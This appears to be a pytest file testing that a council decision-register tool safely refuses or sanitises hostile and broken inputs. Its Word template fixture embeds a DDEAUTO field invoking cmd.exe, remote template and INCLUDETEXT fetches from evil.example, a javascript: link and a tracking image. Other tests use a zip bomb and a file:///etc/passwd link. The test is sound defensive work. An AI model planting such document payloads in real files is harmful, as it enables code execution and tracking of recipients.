"""Hostile and broken files never crash the register (exit 3 is a bug): each gets exit 1 or 2, a
located message, and nothing written. A council's template brings nothing active or private."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

import register
from register.records.checks import check_content
from register.store.version import Register

from .conftest import MINIMAL_REPORT, MINIMAL_STRATEGY, state, without_overriding_permissions
from .office import audit

CLI = [sys.executable, "-c", "from register.cli import main; main()"]


def cli(root: Path, *args: str, bound_by_permissions: bool = False) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*CLI, "-C", str(root), *args],
        capture_output=True,
        text=True,
        preexec_fn=without_overriding_permissions if bound_by_permissions else None,
        check=False,
        timeout=60,
    )


# --- records ----------------------------------------------------------------------------------


def test_an_integer_of_5000_digits(drafted: Register) -> None:
    (drafted.root / "strategy/test.yaml").write_text(MINIMAL_STRATEGY + f"age_range: {'9' * 5000}\n")
    done = cli(drafted.root, "validate")
    assert done.returncode == 1 and "strategy/test.yaml:22:12: a number of 5,000 digits" in done.stderr
    assert (
        cli(drafted.root, "report", "decisions/cabinet", "-o", str(drafted.root / "x.docx")).returncode == 2
    )
    assert cli(drafted.root, "verify").returncode in (0, 1)
    assert cli(drafted.root, "list").returncode == 0


def test_a_kind_that_is_a_list() -> None:
    [problem] = check_content(b"kind: [strategy]\ntitle: x\n", "strategy/x.yaml").problems
    assert (
        str(problem)
        == "strategy/x.yaml:1:7: kind: expected one word, one of strategy, wsoa, app, priority-action-plan, ehria, decision"
    )


def test_a_300_character_title_and_council(drafted: Register, tmp_path: Path) -> None:
    title = "A very long title " * 17  # 306 characters
    settings = drafted.root / "register.yaml"
    settings.write_text(settings.read_text().replace("Testshire County Council", "Borough " * 40))
    (drafted.root / "decisions/cabinet.yaml").write_text(
        MINIMAL_REPORT.replace("title: Test Strategy 2020 to 2023", f"title: {title.strip()}")
    )
    target = tmp_path / "long.docx"
    register.report(drafted, "decisions/cabinet", output=target)
    paper = docx.Document(str(target))
    assert len(paper.core_properties.title) == 255 and paper.core_properties.title.endswith("…")
    assert len(paper.core_properties.author) <= 255
    assert title.strip() in [p.text for p in paper.paragraphs]  # the whole title in the paper itself
    assert audit(target) == []


def test_a_folder_and_a_pipe_named_yaml_are_skipped(drafted: Register) -> None:
    (drafted.root / "strategy/folder.yaml").mkdir()
    os.mkfifo(drafted.root / "strategy/pipe.yaml")
    done = cli(drafted.root, "validate")
    assert done.returncode == 0, done.stderr
    assert "strategy/folder.yaml: not a regular file" in done.stderr
    assert "strategy/pipe.yaml: not a regular file" in done.stderr
    assert cli(drafted.root, "list").returncode == 0


@pytest.mark.parametrize(
    ("unreadable", "command", "code", "message"),
    [
        (
            "strategy/test.yaml",
            ("validate",),
            1,
            "strategy/test.yaml:1:1: the file cannot be read: Permission denied",
        ),
        ("register.yaml", ("validate",), 2, "register.yaml:1:1: cannot be read: Permission denied"),
        (
            "templates/houses/seed.yaml",
            ("report", "decisions/cabinet", "-o", "{tmp}/r.docx"),
            2,
            "templates/houses/seed.yaml: cannot be read",
        ),
    ],
)
def test_unreadable_files(
    drafted: Register, tmp_path: Path, unreadable: str, command: tuple[str, ...], code: int, message: str
) -> None:
    (drafted.root / unreadable).chmod(0)
    (tmp_path / "out").mkdir()
    done = cli(
        drafted.root, *(part.format(tmp=tmp_path / "out") for part in command), bound_by_permissions=True
    )
    assert done.returncode == code, done.stderr
    assert message in done.stderr and "Traceback" not in done.stderr


def test_a_version_before_the_history_starts(drafted: Register) -> None:
    done = cli(drafted.root, "show", "strategy/test", "--at", "1900-01-01")
    assert done.returncode == 2 and "the register's history starts on 2020-01-06" in done.stderr


def test_a_template_link_out_of_the_register(drafted: Register, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.yaml"
    outside.write_text((drafted.root / "templates/houses/seed.yaml").read_text())
    (drafted.root / "templates/houses/seed.yaml").unlink()
    (drafted.root / "templates/houses/seed.yaml").symlink_to(outside)
    before = state(drafted.root)
    done = cli(drafted.root, "report", "decisions/cabinet", "-o", str(tmp_path / "r.docx"))
    assert done.returncode == 2 and "templates/houses/seed.yaml points outside the register" in done.stderr
    assert state(drafted.root) == before and not (tmp_path / "r.docx").exists()


# --- a council's template -----------------------------------------------------------------------


def template_with(change: Callable[[dict[str, bytes]], None]) -> bytes:
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "Anyshire Borough Council"
    buffer = io.BytesIO()
    made.save(buffer)
    parts = {item.filename: zipfile.ZipFile(buffer).read(item) for item in zipfile.ZipFile(buffer).infolist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def _add_rel(
    parts: dict[str, bytes], rels: str, rid: str, kind: str, target: str, external: bool = False
) -> None:
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    parts[rels] = parts[rels].replace(b"</Relationships>", relation.encode() + b"</Relationships>")


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "word/_rels/document.xml.rels"


def hostile(parts: dict[str, bytes]) -> None:
    """Everything the issue lists, at once: macros, a remote template, an external picture and
    fields that fetch in the header, comments, footnotes, custom XML, private properties."""
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Override PartName="/word/comments.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>',
    )
    parts["word/vbaProject.bin"] = b"macro code"
    _add_rel(
        parts,
        WORD,
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    _add_rel(
        parts,
        "word/_rels/settings.xml.rels",
        "rIdT",
        f"{R}/attachedTemplate",
        "http://evil.example/t.dotm",
        True,
    )
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', parts["word/settings.xml"], count=1
    )
    header = parts["word/header1.xml"].decode()
    fields = (
        '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example/x&quot;"><w:r><w:t>included</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rIdJs"><w:r><w:t>click me</w:t></w:r></w:hyperlink></w:p>'
    )
    parts["word/header1.xml"] = header.replace("</w:hdr>", fields + "</w:hdr>").encode()
    parts["word/_rels/header1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    _add_rel(parts, "word/_rels/header1.xml.rels", "rIdJs", f"{R}/hyperlink", "javascript:alert(1)", True)
    _add_rel(
        parts, "word/_rels/header1.xml.rels", "rIdImg", f"{R}/image", "http://evil.example/track.png", True
    )
    parts["word/comments.xml"] = (
        b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    )
    _add_rel(parts, WORD, "rIdC", f"{R}/comments", "comments.xml")
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        b"</Properties>", b"<Company>Private Contractor Ltd</Company><Manager>J Bloggs</Manager></Properties>"
    )
    parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(
        b"</cp:coreProperties>",
        b"<cp:contentStatus>DRAFT - internal</cp:contentStatus><cp:version>7</cp:version></cp:coreProperties>",
    )


def test_a_template_brings_nothing_active_or_private(drafted: Register, tmp_path: Path) -> None:
    template = tmp_path / "council.docx"
    template.write_bytes(template_with(hostile))
    target = tmp_path / "r.docx"
    register.report(
        drafted, "decisions/cabinet", output=target, options=register.PaperOptions(template=template)
    )
    package = zipfile.ZipFile(target)
    everything = b"".join(package.read(name) for name in package.namelist())
    for banned in (
        b"vbaProject",
        b"evil.example",
        b"INCLUDETEXT",
        b"DDEAUTO",
        b"javascript:",
        b"Private Contractor",
        b"J Bloggs",
        b"DRAFT - internal",
        b"customXml/item",
    ):
        assert banned not in everything, banned
    assert not any(name.startswith(("customXml/", "word/comments")) for name in package.namelist())
    assert b"Anyshire Borough Council" in package.read("word/header1.xml") and b"click me" in package.read(
        "word/header1.xml"
    )
    assert audit(target) == []


def test_the_members_marking_is_in_a_style_of_the_papers_own(drafted: Register, tmp_path: Path) -> None:
    template = tmp_path / "council.docx"

    def hidden_header(parts: dict[str, bytes]) -> None:
        parts["word/styles.xml"] = parts["word/styles.xml"].replace(
            b'w:styleId="Header">',
            b'w:styleId="Header"><w:rPr><w:vanish/><w:color w:val="FFFFFF"/></w:rPr>',
            1,
        )

    template.write_bytes(template_with(hidden_header))
    target = tmp_path / "members.docx"
    options = register.PaperOptions(template=template, include_exempt=True)
    register.report(drafted, "decisions/cabinet", output=target, options=options)
    header = zipfile.ZipFile(target).read("word/header1.xml").decode()
    assert 'w:rStyle w:val="ExemptMarking"' in header and "EXEMPT INFORMATION" in header


@pytest.mark.parametrize(
    ("case", "make", "message"),
    [
        ("a zip bomb", lambda: _bomb(), "far more than a template holds"),
        (
            "malformed XML",
            lambda: template_with(lambda p: p.update({"word/styles.xml": b"<w:styles"})),
            "its XML cannot be read",
        ),
        ("XML nested too deep", lambda: template_with(_deep), "its XML cannot be read"),
        ("not a zip", lambda: b"PK but not really", "not a Word .docx file"),
    ],
)
def test_broken_templates_are_refused(
    drafted: Register, tmp_path: Path, case: str, make: Callable[[], bytes], message: str
) -> None:
    template = tmp_path / "council.docx"
    template.write_bytes(make())
    done = cli(
        drafted.root,
        "report",
        "decisions/cabinet",
        "-o",
        str(tmp_path / "r.docx"),
        "--template",
        str(template),
    )
    assert done.returncode == 2 and message in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "r.docx").exists()


def _bomb() -> bytes:
    def bloat(parts: dict[str, bytes]) -> None:
        parts["word/media/filler.bin"] = b"\0" * (80 * 1024 * 1024)

    return template_with(bloat)


def _deep(parts: dict[str, bytes]) -> None:
    depth = 5000
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:hdr>", b"<w:p>" + b"<w:r>" * depth + b"</w:r>" * depth + b"</w:p></w:hdr>"
    )


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("[the page](https://example.org/a)", True),
        ("[write to us](mailto:clerk@example.org)", True),
        ("[a file](file:///etc/passwd)", False),
        ("[a script](javascript:alert(1))", False),
        ("[an attachment](mailto:clerk@example.org?attach=/etc/passwd)", False),
    ],
)
def test_only_safe_links_become_links(text: str, link: bool) -> None:
    from register.papers.inline import spans_of

    assert any(span.link for span in spans_of(f"See {text}.")) is link


def test_a_loop_of_links_among_the_decisions(drafted: Register) -> None:
    """A link that leads to itself is skipped and said, as a link out of the register is: every
    command that looks at the files goes on (verify reads the decisions ahead of time too)."""
    (drafted.root / "decisions/loop.yaml").symlink_to("loop.yaml")
    for command in ("verify", "list", "history"):
        done = cli(drafted.root, command, *(["strategy/test"] if command == "history" else []))
        assert done.returncode == 0 and "internal error" not in done.stderr, done.stderr
    done = cli(drafted.root, "validate")
    assert done.returncode == 0
    assert "decisions/loop.yaml: a link to a file outside the register (or a loop of links): skipped" in (
        done.stderr
    )


def test_a_record_folder_that_cannot_be_read(drafted: Register) -> None:
    """Records that cannot be seen cannot be checked: said plainly, as an error of the machine."""
    private = drafted.root / "decisions/private"
    private.mkdir()
    (private / "x.yaml").write_text(MINIMAL_REPORT)
    private.chmod(0)
    try:
        done = cli(drafted.root, "validate", bound_by_permissions=True)
    finally:
        private.chmod(0o755)
    assert done.returncode == 2
    assert done.stderr.startswith("decisions/private: this folder cannot be read (permission denied)")
